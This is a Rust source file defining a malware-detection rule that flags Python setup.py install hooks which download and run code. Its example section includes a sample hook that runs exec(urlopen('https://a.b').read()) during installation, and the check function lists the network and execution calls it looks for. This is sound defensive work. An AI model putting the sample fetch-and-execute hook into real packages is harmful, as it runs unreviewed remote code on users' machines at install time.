//! Code that runs while a package is installed, and fetches more.

use super::MALICIOUS;
use crate::file::{File, Report};
use crate::rules::security::calls::calls;
use crate::rules::{Info, PYTHON, Rule};
use formicary_model::Language;
use formicary_model::review::Confidence;

pub(super) const RULE: Rule = Rule { info: &INFO, check };

static INFO: Info = Info {
    name: "install-hook",
    title: "An installation that downloads and runs something",
    why: "Installing is enough: what comes from the network runs before anybody reads or imports the package.",
    suggestion: "Put what is needed into the package, or fetch it when the user asks, with a checksum.",
    confidence: Confidence::Medium,
    cwe: Some(506),
    languages: PYTHON,
    examples: &[(
        Language::Python,
        "from setuptools import setup\nfrom setuptools.command.install import install\nfrom urllib.request import urlopen\nclass Hook(install):\n    def run(self):\n        exec(urlopen('https://a.b').read())\nsetup(cmdclass={'install': Hook})\n",
        "from setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        install.run(self)\nsetup(cmdclass={'install': Hook})\n",
    )],
    ..MALICIOUS
};

fn check(file: &File<'_, '_>, report: &mut Report<'_>) {
    let installs = file.unit.imports.iter().any(|import| {
        let module = import.module.split('.').next().unwrap_or("");
        matches!(module, "setuptools" | "distutils")
    });
    if !installs || calls(file, &["setup"]).is_empty() {
        return;
    }
    let fetches = calls(file, &["urlopen", "urlretrieve", "get", "post"])
        .into_iter()
        .any(|call| matches!(call.path.split('.').next(), Some("urllib" | "requests" | "httpx")));
    if !fetches {
        return;
    }
    for call in calls(
        file,
        &["exec", "eval", "system", "popen", "Popen", "run", "call", "check_call", "check_output"],
    ) {
        if matches!(call.path.as_str(), "exec" | "eval" | "os.system" | "os.popen")
            || call.receiver() == "subprocess"
        {
            report.find(
                call.span,
                "this runs while the package is installed, and the file fetches from the network",
            );
        }
    }
}
